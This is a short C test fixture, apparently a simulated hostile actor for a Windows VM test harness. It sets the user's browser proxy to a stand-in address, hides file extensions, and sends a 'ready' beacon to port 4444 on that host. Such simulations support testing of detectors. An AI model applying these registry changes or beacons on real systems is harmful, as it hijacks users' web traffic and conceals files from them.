#include "tests/vm/actors/win/actor.h"

#define SETTINGS "Software\\Microsoft\\Windows\\CurrentVersion\\"

/* Leads the browser to somebody else, and hides that it is there. */
int
main(void)
{
	actor_only_in_guest();
	actor_set(HKEY_CURRENT_USER, SETTINGS "Internet Settings",
	    "ProxyServer", "198.51.100.66:8080");
	actor_set(HKEY_CURRENT_USER, SETTINGS "Explorer\\Advanced",
	    "HideFileExt", "1");
	(void)actor_send("198.51.100.66", 4444, "ready\r\n", 7, NULL, 0);
	return 0;
}
